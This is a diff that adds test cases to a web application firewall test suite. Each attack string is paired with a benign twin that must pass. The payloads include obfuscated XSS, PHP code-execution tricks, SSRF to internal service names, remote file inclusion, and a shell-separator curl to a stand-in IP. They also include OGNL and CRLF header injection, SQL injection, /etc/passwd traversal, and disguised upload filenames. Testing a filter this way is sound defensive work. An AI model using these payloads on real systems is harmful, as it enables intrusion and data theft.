@@ -300,6 +300,234 @@ describe('WAF: each attack family blocked wherever it hides, its benign twin pas
   });
 });
 
+/**
+ * Shapes of attack classes read since the first tuning (causes of misses: a decoding or a reading
+ * the engine lacked, a part it did not look at), each with a benign twin that must pass. Written
+ * for these tests from the grammar of each class, not taken from a corpus.
+ */
+const VALUE_PLACES: Place[] = ['query', 'form', 'json', 'multipart', 'cookie'];
+const SHAPES: { shape: string; attack: string; benign: string; name?: string; places?: Place[] }[] = [
+  {
+    shape: 'a script URL whose scheme is spelled with control characters (ja&Tab;vascript:)',
+    attack: 'jav&#x09;ascript:x',
+    benign: 'Java script: a tutorial',
+    places: [...VALUE_PLACES, 'header'],
+  },
+  {
+    shape: 'markup in US-ASCII with the high bit set (\\xbc for "<")',
+    attack: '\\xbcscript src=//x.example/a.js\\xbe\\xbc/script\\xbe',
+    benign: '\u00bc cup of sugar, \u00be cup of flour',
+  },
+  {
+    shape: 'JSFuck with "+" read as a space',
+    attack: '(![] [])[ ! []]',
+    benign: '![](https://img.example/a.png) nice!',
+  },
+  { shape: 'a DOM sink alone (window.location)', attack: 'window.location', benign: 'window.png and document.pdf' },
+  {
+    shape: 'a DOM sink read through a parenthesised object and a bracket',
+    attack: '(document)["cookie"]',
+    benign: '(see the document)["page 2"]',
+  },
+  {
+    shape: 'a tagged template whose substitution calls a function',
+    attack: `[].sort.call\`${DOLLAR}{alert}7\``,
+    benign: 'the `.call` method costs $5',
+  },
+  { shape: 'CSS url() to a script URL', attack: 'background:url(javascript', benign: 'background:url(/img/bg.png)' },
+  {
+    shape: 'a <style> element importing a remote sheet',
+    attack: "<style>@import 'http://x.example/x.css';</style>",
+    benign: '<b>bold</b> style @import is a CSS rule',
+  },
+  {
+    shape: 'markup pointing an XML parser at a remote schema',
+    attack:
+      '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.example/ http://198.51.100.7/x.xsd">x</x>',
+    benign: '<x lang="en">x</x>',
+  },
+  {
+    shape: 'remote file inclusion from an IPv6 literal host',
+    attack: 'https://[2001:db8::7]/shell.php',
+    benign: 'https://www.example.org/docs/page.html',
+    places: VALUE_PLACES,
+  },
+  {
+    shape: 'remote file inclusion from an IPv4 host without a path',
+    attack: 'ftp://198.51.100.7',
+    benign: 'ftp is at 198.51.100.7',
+    places: VALUE_PLACES,
+  },
+  {
+    shape: 'a remote URL given to a parameter named for a local path',
+    attack: 'https://x.example/',
+    benign: 'https://x.example/',
+    name: 'mosConfig_absolute_path',
+    places: ['query', 'form', 'json', 'multipart'],
+  },
+  {
+    shape: 'an internal service name without a scheme (SSRF)',
+    attack: 'kubernetes.default.svc/api',
+    benign: 'kubernetes.io/docs',
+    places: VALUE_PLACES,
+  },
+  {
+    shape: 'a data: URL of any type (SSRF)',
+    attack: 'data:text/plain',
+    benign: 'data: text plain',
+    places: VALUE_PLACES,
+  },
+  {
+    shape: 'an administration tool at the start of a value',
+    attack: 'ansible all -m shell -a id',
+    benign: 'ansible is a tool I like',
+    places: [...VALUE_PLACES, 'header'],
+  },
+  {
+    shape: 'a quoted command after a shell separator',
+    attack: "x;'curl' http://198.51.100.7/",
+    benign: "a; 'curly' hair",
+    places: [...VALUE_PLACES, 'header'],
+  },
+  { shape: 'a PHP function called through an array', attack: "[system][0]('id');", benign: '[system] message: ready' },
+  {
+    shape: 'a PHP variable variable with spaces ("$ {")',
+    attack: `${DOLLAR} {'_GE'.'T'}`,
+    benign: `price: ${DOLLAR} 5 {approx}`,
+  },
+  {
+    shape: 'a PHP variable call with comments between the brackets',
+    attack: `${DOLLAR}_x/*a*/[0]/*b*/[1] (7)`,
+    benign: 'x/*a*/[0] (7)',
+  },
+  { shape: 'a php.ini line', attack: 'extension=/tmp/x.so', benign: 'extension 2 = room 14' },
+  { shape: 'a PHP function that tests files', attack: "file_exists ('/x')", benign: 'the file exists (I think)' },
+  {
+    shape: 'a request line inside a value (smuggling)',
+    attack: 'GET http://x.example/ HTTP/1.1',
+    benign: 'GET the book at http://x.example/ now',
+    places: VALUE_PLACES,
+  },
+  {
+    shape: 'an attack inside a JSON document given as a value (read key by key)',
+    attack: '{"q":"1\' OR \'1\'=\'1","n":2}',
+    benign: '{"q":"O\'Reilly","n":2}',
+  },
+  {
+    shape: 'a climb in the query of a URL given as a value (its arguments read one by one)',
+    attack: 'https://x.example/?next=..%2F..%2F..%2Fetc%2Fpasswd',
+    benign: 'https://x.example/?next=%2Faccount%2Fsettings&utm_source=mail',
+    places: VALUE_PLACES,
+  },
+  {
+    shape: 'markup hidden in a base64 value with padding',
+    attack: Buffer.from('<script>alert(7)</script>').toString('base64'),
+    benign: Buffer.from('a plain sentence, no more').toString('base64'),
+  },
+  {
+    shape: "Apache mod_proxy's unix socket prefix",
+    attack: 'unix:/run/x.sock|http://x.example/',
+    benign: 'unix: a family of systems | http://x.example/',
+    places: VALUE_PLACES,
+  },
+];
+
+describe('WAF: attack shapes added by the tuning, each blocked with its benign twin passing', () => {
+  for (const f of SHAPES) {
+    for (const place of f.places ?? ['query', 'form', 'json', 'multipart', 'cookie']) {
+      it(`${f.shape}, in the ${place}`, async () => {
+        const name = f.name ?? 'v';
+        const blocked = await sendIn(place, f.attack, name);
+        expect(blocked).toEqual({ status: 403, origin: false });
+        // the path-parameter shape's twin is the same URL under an ordinary name
+        const passed = await sendIn(place, f.benign, f.name ? 'homepage' : name);
+        expect(passed).toEqual({ status: 200, origin: true });
+      });
+    }
+  }
+
+  const get = (path: string, headers: Record<string, string> = {}, method = 'GET', body?: string) =>
+    sendFrom('127.0.0.1', edge.httpPort, host('block'), {
+      path,
+      method,
+      headers: body === undefined ? headers : { ...headers, 'content-length': String(Buffer.byteLength(body)) },
+      body,
+    });
+  const statusOf = (r: Awaited<ReturnType<typeof get>>) => (r === 'closed' ? 'closed' : r.status);
+
+  it('a Content-Type that is no type is judged without a body; ordinary ones pass', async () => {
+    expect(statusOf(await get('/ct', { 'content-type': 'text/xml; blah' }))).toBe(403);
+    expect(statusOf(await get('/ct', { 'content-type': "%{(#x='multipart/form-data').(#y=@ognl" }))).toBe(403);
+    expect(
+      statusOf(
+        await get('/ct', { 'content-type': 'application/x-www-form-urlencoded;boundary="text/xml"' }, 'POST', ''),
+      ),
+    ).toBe(403);
+    expect(
+      statusOf(
+        await get(
+          '/ct',
+          { 'content-type': 'application/x-www-form-urlencoded; charset=utf-8; charset=utf-7' },
+          'POST',
+          'a=1',
+        ),
+      ),
+    ).toBe(403);
+    expect(statusOf(await get('/ct', { 'content-type': 'text/plain;charset=UTF-8;' }, 'POST', 'hello'))).toBe(200);
+    expect(statusOf(await get('/ct', { 'content-type': 'application/json;' }, 'POST', '{"a":1}'))).toBe(200);
+  });
+
+  it('a line break in the path or in an argument or cookie name is blocked; encoded letters pass', async () => {
+    expect(statusOf(await get('/a%0Ab'))).toBe(403);
+    expect(statusOf(await get('/index.php/PHP%0Ainfo.php'))).toBe(403);
+    expect(statusOf(await get('/get?name%0d%0a=1'))).toBe(403);
+    expect(statusOf(await get('/a%41b?na%6De=1'))).toBe(200);
+  });
+
+  it('a query or form of ordinary arguments, read in one pass, still has its words and base64 values read', async () => {
+    const ordinary = 'first_name=Marie&email=marie%40example.com&comment=Leave+it+with+the+neighbour%2C+please&n=2';
+    const form = { 'content-type': 'application/x-www-form-urlencoded' };
+    expect(statusOf(await get(`/a?${ordinary}`))).toBe(200);
+    expect(statusOf(await get('/a', form, 'POST', ordinary))).toBe(200);
+    // a command alone (a keyword of the prefilter), a script in base64, a SQL break after "+" spaces
+    const b64 = Buffer.from('<script>alert(7)</script>').toString('base64url');
+    for (const attack of [`${ordinary}&cmd=whoami`, `${ordinary}&t=${b64}`, `${ordinary}&id=1+union+select+1`]) {
+      expect(statusOf(await get(`/a?${attack}`))).toBe(403);
+      expect(statusOf(await get('/a', form, 'POST', attack))).toBe(403);
+    }
+    // an "=" or "&" inside a value (encoded or a second "=") is read argument by argument
+    expect(statusOf(await get('/a?n=1&id=1+or+1=1'))).toBe(403);
+    expect(statusOf(await get('/a?n=1&id=1%20or%201%3D1'))).toBe(403);
+  });
+
+  it('JSON lines in a text body are read line by line: an attack in any line is blocked', async () => {
+    const lines = (last: string) =>
+      `${JSON.stringify({ sent_at: '2026-01-01T00:00:00Z' })}\n${JSON.stringify({ type: 'event' })}\n${JSON.stringify({ message: last })}\n`;
+    const bad = lines('<img src=x onerror=alert(7)>');
+    expect(statusOf(await get('/envelope', { 'content-type': 'text/plain;charset=UTF-8' }, 'POST', bad))).toBe(403);
+    const fine = lines('TypeError: x is undefined (app.js:1:2)');
+    expect(statusOf(await get('/envelope', { 'content-type': 'text/plain;charset=UTF-8' }, 'POST', fine))).toBe(200);
+  });
+
+  it('a cookie carrying a blank line and markup (response splitting) is blocked', async () => {
+    expect(statusOf(await get('/c', { cookie: 'a=b%0d%0a%0d%0a<html><title>x</title></html>' }))).toBe(403);
+    expect(statusOf(await get('/c', { cookie: 'a=b; c=<3 you' }))).toBe(200);
+  });
+
+  it('an upload whose name climbs out of the folder or hides the extension behind a space is blocked', async () => {
+    const upload = (filename: string) => {
+      const body = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\nBINARY\r\n--${BOUNDARY}--\r\n`;
+      return get('/upload', { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` }, 'POST', body);
+    };
+    expect(statusOf(await upload('../x.7z'))).toBe(403);
+    expect(statusOf(await upload('..\\x.7z'))).toBe(403);
+    expect(statusOf(await upload('photo. php'))).toBe(403);
+    expect(statusOf(await upload('photo.2024.jpg'))).toBe(200);
+    expect(statusOf(await get('/upload', { 'x-filename': 'shell. jsp' }))).toBe(403);
+    expect(statusOf(await get('/upload', { 'x-filename': 'report. final.pdf' }))).toBe(200);
+  });
+});
+
 describe('WAF: groups, exclusions and modes', () => {
   it('a group turned off is not detected; the groups left on still are', async () => {
     expect(await sendIn('query', "nobody' OR 'x'='x", 'v', 'groups')).toEqual({ status: 200, origin: true });
